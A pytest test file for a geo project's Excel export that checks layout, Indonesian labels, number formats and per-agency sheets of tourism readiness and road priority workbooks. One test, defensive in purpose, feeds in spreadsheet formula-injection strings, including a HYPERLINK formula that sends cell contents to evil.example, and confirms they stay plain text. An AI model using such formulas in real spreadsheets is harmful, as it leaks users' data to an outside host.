"""Workbooks that print and read well (issue 14, part 2), read back with openpyxl.

Every sheet of the scores, priorities and task workbooks written from the scored demo:
A4 landscape fitted to the page width, header row repeated on each page, title and date in
the page header, bold filtered frozen header, one number format per column, codes in words,
scores by rank, one sheet per agency of readiness.toml, and an 'Asumsi' sheet in Bahasa
Indonesia. Expectations come from the layers and the TOML read here, not from the writer.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import shutil
import tomllib
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter

from geo.io import Sheet, write_workbook
from geo.io.workspace import Workspace
from geo.network import load_network_config
from geo.priorities import load_priorities_config, priorities_assumptions, write_priorities_xlsx
from geo.readiness import load_readiness_config, write_scores
from geo.steps.tasks import write_tasks_xlsx
from tests._paths import PROJECT_ROOT

TOML = PROJECT_ROOT / "data" / "readiness.toml"
with TOML.open("rb") as _f:
    RAW = tomllib.load(_f)
MONTHS = ("Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus",
          "September", "Oktober", "November", "Desember")
# English words that must not appear in an 'Asumsi' sheet (identifiers such as TOML key
# paths, file paths and column keys are skipped: they hold '.', '_' or '/').
ENGLISH = {"value", "values", "source", "sources", "assumption", "assumptions", "key", "the",
           "not", "and", "of", "with", "from", "unknown", "synthetic", "file", "seed",
           "greedy", "project", "road", "speed", "empty", "only", "when", "see", "per-km"}
CLASS_WORDS = {"Rintisan", "Berkembang", "Maju", "Mandiri"}


def today_text() -> str:
    d = dt.date.today()
    return f"{d.day} {MONTHS[d.month - 1]} {d.year}"


@pytest.fixture(scope="module")
def books(served: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    tmp = tmp_path_factory.mktemp("xlsx-print")
    path = tmp / "ws.gpkg"
    shutil.copyfile(served, path)
    ws = Workspace(path)
    scores = ws.read("scores")
    prio = ws.read("priorities")
    out = {"scores": tmp / "skor.xlsx", "priorities": tmp / "prioritas.xlsx",
           "tasks": tmp / "tugas.xlsx"}
    write_scores(scores, out["scores"], load_readiness_config(TOML))
    write_priorities_xlsx(pd.DataFrame(prio.drop(columns=prio.geometry.name)),
                          out["priorities"],
                          priorities_assumptions(load_priorities_config(), load_network_config(),
                                                 synthetic=True, budget=20e9,
                                                 authority="kabupaten"))
    tasks = write_tasks_xlsx(ws, "pu", out["tasks"])
    return {"paths": out, "scores": scores, "priorities": prio, "tasks": tasks,
            "wb": {k: openpyxl.load_workbook(p) for k, p in out.items()}}


def rows_of(sheet: Any) -> tuple[list[str], list[tuple[Any, ...]]]:
    rows = list(sheet.iter_rows(values_only=True))
    return [str(h) for h in rows[0]], rows[1:]


def column(sheet: Any, header: str) -> list[Any]:
    head, rows = rows_of(sheet)
    j = head.index(header)
    return [r[j] for r in rows]


@pytest.mark.parametrize("book", ["scores", "priorities", "tasks"])
def test_every_sheet_prints_and_reads_well(books: dict[str, Any], book: str) -> None:
    wb = books["wb"][book]
    for sheet in wb.worksheets:
        where = f"{book}:{sheet.title}"
        # print: A4 landscape, one page wide, header row on every page
        assert sheet.page_setup.orientation == "landscape", where
        assert int(sheet.page_setup.paperSize) == 9, where  # A4 in the OOXML numbering
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, where
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0, where
        assert sheet.print_title_rows in ("$1:$1", "1:1"), where
        # a title and today's date, in Indonesian, in the page header
        assert sheet.oddHeader.left.text, where
        assert sheet.oddHeader.right.text == today_text(), where
        # header bold, filtered over the whole table, frozen
        width = sheet.max_column
        assert all(c.font.bold for c in sheet[1]), where
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(width)}{sheet.max_row}", where
        assert sheet.freeze_panes in ("A2", "C2"), where
        # one number format per column
        for j in range(1, width + 1):
            formats = {sheet.cell(row=i, column=j).number_format
                       for i in range(2, sheet.max_row + 1)}
            assert len(formats) <= 1, (where, sheet.cell(row=1, column=j).value, formats)
            assert sheet.column_dimensions[get_column_letter(j)].width >= 8, where


def test_scores_are_sorted_by_rank_with_codes_in_words(books: dict[str, Any]) -> None:
    sheet = books["wb"]["scores"]["Skor kesiapan"]
    assert sheet.oddHeader.left.text == "Skor kesiapan destinasi wisata"
    layer = pd.DataFrame(books["scores"]).drop(columns="geometry")
    # the layer sorted here independently: rank ascending, unranked last, ties as stored
    layer["_pos"] = np.arange(len(layer))
    layer["_rank"] = layer["rank"].astype("float64").fillna(np.inf)
    expected = layer.sort_values(["_rank", "_pos"])["id"].astype(str).tolist()
    assert [str(v) for v in column(sheet, "ID")] == expected
    ranks = [r for r in column(sheet, "Peringkat") if r is not None]
    assert ranks == sorted(ranks) and ranks[0] == 1
    # numbers stay numbers, in one format
    scores = [v for v in column(sheet, "Skor kesiapan (0-100)") if v is not None]
    assert scores and all(isinstance(v, float) for v in scores)
    head, _ = rows_of(sheet)
    cell = sheet.cell(row=2, column=head.index("Skor kesiapan (0-100)") + 1)
    assert cell.number_format == "0.0"
    # codes in words: classes, provenance (the demo is synthetic), yes/no
    assert set(column(sheet, "Kelas")) - {None} <= CLASS_WORDS
    prov = set(column(sheet, "Provenans"))
    assert "sintetis" in prov and "synthetic" not in prov
    assert set(column(sheet, "Data sintetis")) <= {"Ya", "Tidak"}
    short = {d["short"] for d in RAW["dimensions"].values()}
    assert set(column(sheet, "Penghambat utama")) - {None} <= short


def test_one_sheet_per_agency_with_its_actions(books: dict[str, Any]) -> None:
    wb = books["wb"]["scores"]
    dims = RAW["dimensions"]
    assert wb.sheetnames == ["Skor kesiapan", *(d["short"] for d in dims.values()), "Asumsi"]
    layer = books["scores"]
    for key, dim in dims.items():
        sheet = wb[dim["short"]]
        assert dim["agency"] in sheet.oddHeader.left.text
        # as many rows as the scores' task lists name for this agency, counted here
        items = [(str(did), it) for did, raw in zip(layer["id"], layer["tasks"], strict=True)
                 for it in json.loads(raw or "[]") if it["dimension"] == key]
        head, rows = rows_of(sheet)
        assert len(rows) == len(items), key
        assert f"Skor {dim['short']}" in head and "Tindakan" in head
        texts = {(str(r[head.index("ID")]), r[head.index("Tindakan")]) for r in rows}
        assert texts == {(did, it["text"]) for did, it in items}, key
        ranks = [r[0] for r in rows if r[0] is not None]
        assert ranks == sorted(ranks), key
        assert set(column(sheet, "Kelas")) - {None} <= CLASS_WORDS


def test_priorities_show_road_codes_in_words(books: dict[str, Any]) -> None:
    sheet = books["wb"]["priorities"]["Prioritas"]
    layer = books["priorities"]
    assert set(column(sheet, "Kewenangan")) == {
        {"kabupaten": "Jalan kabupaten", "desa": "Jalan desa", "provinsi": "Jalan provinsi",
         "nasional": "Jalan nasional"}[a] for a in set(layer["authority"])}
    words = {"baik": "Baik", "sedang": "Sedang", "rusak_ringan": "Rusak ringan",
             "rusak_berat": "Rusak berat", "unknown": "Kondisi tidak diketahui"}
    assert set(column(sheet, "Kondisi")) == {words[c] for c in set(layer["condition"])}
    assert "rusak_berat" not in set(column(sheet, "Kondisi"))
    assert set(column(sheet, "Provenans data")) == {"sintetis"}
    assert [r for r in column(sheet, "Peringkat (menit per biaya, ruas sendiri)")] == \
        layer["rank"].tolist()
    head, _ = rows_of(sheet)
    for name, fmt in (("Biaya (Rp, asumsi)", '"Rp" #,##0'), ("Destinasi terlayani", "#,##0")):
        assert sheet.cell(row=2, column=head.index(name) + 1).number_format == fmt


@pytest.mark.parametrize("book", ["scores", "priorities", "tasks"])
def test_asumsi_sheet_is_in_bahasa_indonesia(books: dict[str, Any], book: str) -> None:
    sheet = books["wb"][book]["Asumsi"]
    head, rows = rows_of(sheet)
    assert head == ["Bagian", "Kunci", "Nilai", "Keterangan"]
    found = set()
    for row in rows:
        for value in row:
            for token in str(value or "").split():
                word = token.strip(",;:()[]'\"`.!?").lower()
                if word and not re.search(r"[._/=<>0-9]", word) and word in ENGLISH:
                    found.add((word, str(value)[:80]))
    assert not found, found
    if book == "priorities":
        budget = [r for r in rows if r[0] == "Anggaran"]
        assert budget and budget[0][2] == "Rp 20.000.000.000"  # Indonesian grouping
        assert any(r[1] == "sintetis" for r in rows)


def test_tasks_sheet_status_words_and_year_format(books: dict[str, Any]) -> None:
    sheet = books["wb"]["tasks"]["Rencana aksi"]
    statuses = set(column(sheet, "Status"))
    assert statuses and statuses <= {"usulan (belum diadopsi)", "direncanakan", "berjalan",
                                      "selesai", "batal"}
    head, _ = rows_of(sheet)
    year = sheet.cell(row=2, column=head.index("Tahun target") + 1)
    assert year.number_format == "0"  # 2027, not 2.027
    assert RAW["dimensions"]["pu"]["agency"] in sheet.oddHeader.left.text


def test_hostile_text_stays_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    df = pd.DataFrame({"id": ["@SUM(A1)", "b"], "name": [hostile, "+62 812"],
                       "condition": ["-1+1", "rusak_berat"], "n": [1200, 3]})
    path = tmp_path / "jahat.xlsx"
    write_workbook(path, [Sheet("Data", df, codes={"condition": "condition"},
                                title="Dinas A & B")], on=dt.date(2026, 12, 2))
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(r"<(\w+:)?f[ >/]", z.read(name).decode()) is None
    sheet = openpyxl.load_workbook(path)["Data"]
    for ref, text in (("A2", "@SUM(A1)"), ("B2", hostile), ("B3", "+62 812"),
                      ("C2", "-1+1"), ("C3", "Rusak berat")):
        cell = sheet[ref]
        assert cell.value == text and cell.data_type == "s", ref
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@")), ref
    assert sheet["D2"].value == 1200 and sheet["D2"].number_format == "#,##0"
    # '&' is a control character of the page header: printed as itself
    assert sheet.oddHeader.left.text == "Dinas A && B"
    assert sheet.oddHeader.right.text == "2 Desember 2026"


def test_tasks_name_indicators_and_layers_in_words(books: dict[str, Any]) -> None:
    sheet = books["wb"]["tasks"]["Rencana aksi"]
    labels = {ind["label"] for ind in RAW["dimensions"]["pu"]["indicators"].values()}
    shown = set(column(sheet, "Indikator"))
    assert shown and shown <= labels | {"kelengkapan data"}
    layers = set(column(sheet, "Data bukti")) - {None, ""}
    assert layers and layers <= {"Jalan", "Destinasi", "UMKM"}
